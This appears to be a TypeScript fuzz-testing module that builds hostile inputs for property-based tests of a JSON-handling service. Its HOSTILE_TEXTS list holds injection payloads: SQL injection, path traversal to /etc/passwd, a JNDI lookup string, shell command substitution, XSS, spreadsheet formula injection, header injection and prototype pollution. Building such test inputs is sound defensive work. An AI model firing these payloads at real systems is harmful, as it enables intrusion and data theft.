/**
 * What attackers send in place of what is expected, and how it is written as JSON that no
 * serializer would write.
 *
 * @module
 */
import fc from "fast-check";

/** Texts that mean something somewhere: to SQL, shells, terminals, pages, paths, parsers. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...["", " ", "\0", "a\0b", "\ud800", "\udfff\ud800", "\ufeff", "\u202eabc"],
  ...[
    "acme\u200b",
    "\u0430cme",
    "\uff11\uff12",
    "\u0130",
    "\u212a",
    "\u{1d552}",
  ],
  ...["../../../etc/passwd", "..%2f..%2fetc", "%00", "file:///etc/passwd"],
  ...[
    "'; drop table decision; --",
    "\\'; select pg_sleep(9); --",
    "$1",
    "%s%n",
  ],
  ...["${jndi:ldap://a.example}", "{{7*7}}", "$(id)", "`id`", "|id", "&&id"],
  ...["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>'],
  ...["</style><svg onload=alert(1)>", "javascript:alert(1)", "]]>", "-->"],
  ...["=cmd|'/c calc'!A0", "+1+1", "@SUM(1)", "-2+3", "\t=1"],
  ...[
    "a\r\nset-cookie: a=1",
    "a\nb",
    "\u2028",
    "\x1b[2J\x1b]0;t\x07",
    "\x9b31m",
  ],
  ...['","level":"error","x":"', "\\u0000", "\\", '"', "*", "?", "%", "_"],
  ...["NaN", "Infinity", "-Infinity", "1e999", "-0", "0x10", "1_000", "٣"],
  ...["9".repeat(400), "-1", "0", "00", "1.5", "9223372036854775808"],
  ...["2026-02-30", "0000-01-01", "9999-12-31", "+275760-09-13", "24:00"],
  ...[
    "9999-12-31T23:59:59.999Z",
    "0000-01-01T00:00:00.000Z",
    "-000001-01-01T00:00:00.000Z",
    "+275760-09-13T00:00:00.000Z",
    "2026-13-41T00:00:00.000Z",
    "0001-01-01T00:00:00.000Z",
  ],
  ...[
    "2026-01-01T25:00:00Z",
    "2026-12-31T23:59:60Z",
    "2026-01-01T00:00:00-25:00",
  ],
  ...["__proto__", "constructor", "prototype", "toString", "hasOwnProperty"],
  ...["null", "undefined", "true", "[object Object]", "a".repeat(9000)],
  "(a+)+$" + "a".repeat(2000) + "!",
];

const HOSTILE_NUMBERS = [
  ...[-1, 0, 0.1, 1.5, 2 ** 31, -(2 ** 31) - 1, 2 ** 53, -(2 ** 53), 2 ** 63],
  ...[1e21, 1e308, -1e308, 5e-324, Number.MAX_SAFE_INTEGER],
];

/** JSON that a serializer does not write. */
const RAW = [
  ...["1e999", "-1e999", "-0", "1E-400", "123456789012345678901234567890"],
  ...['{"a":1,"a":2}', '{"__proto__":{"admin":true}}', '{"constructor":1}'],
  `${"[".repeat(70)}${"]".repeat(70)}`,
  `${'{"a":'.repeat(70)}1${"}".repeat(70)}`,
  `${"[".repeat(3000)}${"]".repeat(3000)}`,
  ...['"\\u0000"', '"\\ud83d"', '"\\uDEAD\\uBEEF"', '"\\/"', "01", "NaN"],
];

const MARK = /"@raw (\d+)@"/g;

/** Anything, of the kinds that break things. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...HOSTILE_TEXTS) },
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_NUMBERS) },
  {
    weight: 2,
    arbitrary: fc.nat(RAW.length - 1).map((index) => `@raw ${index}@`),
  },
  fc.string({ unit: "binary", maxLength: 40 }),
  fc.constantFrom<unknown>(null, true, false, [], {}, [null], [[]], { "": 1 }),
  fc.constantFrom<unknown>(
    Array.from({ length: 3000 }, () => 0),
    Object.fromEntries(Array.from({ length: 400 }, (_, at) => [`k${at}`, at])),
  ),
  fc.jsonValue({ maxDepth: 3 }),
);

/**
 * Writes a value as JSON, with what stands in it for JSON that no serializer writes.
 *
 * @param value JSON-like.
 * @returns Text that may be no JSON.
 */
export function printHostile(value: unknown): string {
  const text = JSON.stringify(value) ?? "";
  return text.replaceAll(MARK, (_, index) => RAW[Number(index)] ?? "");
}

/**
 * Puts something in a place of a value.
 *
 * @param value JSON-like.
 * @param change Chooses the place and what happens there.
 * @returns A copy.
 */
export function mutate(
  value: unknown,
  { place, hostile, name }: Mutation,
): unknown {
  if (typeof value !== "object" || value === null || place.length === 0) {
    return hostile;
  }
  const [step = 0, ...rest] = place;
  if (Array.isArray(value)) {
    if (value.length === 0) return [hostile];
    const at = step % value.length;
    return value.map((item, index) =>
      index === at ? mutate(item, { place: rest, hostile, name }) : item
    );
  }
  const entries = Object.entries(value);
  const at = step % (entries.length + 2);
  if (at === entries.length) {
    return Object.fromEntries([...entries, [name, hostile]]);
  }
  if (at > entries.length) return Object.fromEntries(entries.slice(1));
  return Object.fromEntries(entries.map(([key, member], index) => [
    key,
    index === at ? mutate(member, { place: rest, hostile, name }) : member,
  ]));
}

/** What is changed in a value. */
export interface Mutation {
  /** Which member at each level. */
  readonly place: readonly number[];
  readonly hostile: unknown;
  /** Name of a member that is added. */
  readonly name: string;
}

/** Any mutation. */
export const mutation: fc.Arbitrary<Mutation> = fc.record({
  place: fc.array(fc.nat(11), { maxLength: 6 }),
  hostile: hostileValue,
  name: fc.constantFrom("x", ...HOSTILE_TEXTS),
});

/** Ways to spoil a text on its way. */
export type Spoil = (text: string) => string | Uint8Array<ArrayBuffer>;

const bytes = new TextEncoder();

/** The text itself most often, and spoilt. */
export const SPOILS: readonly Spoil[] = [
  ...Array.from({ length: 24 }, () => (text: string) => text),
  (text) => `\ufeff${text}`,
  (text) => `${text}x`,
  (text) => text.slice(0, -1),
  (text) => `${" ".repeat(20_000)}${text}`,
  (text) => text.replace("{", '{"x":1,"x":2,'),
  (text) => new Uint8Array([...bytes.encode(text).slice(0, -1), 0xff, 0x7d]),
  (text) => {
    const units = Uint16Array.from(text, (char) => char.charCodeAt(0));
    return new Uint8Array(units.buffer);
  },
  () => "",
];
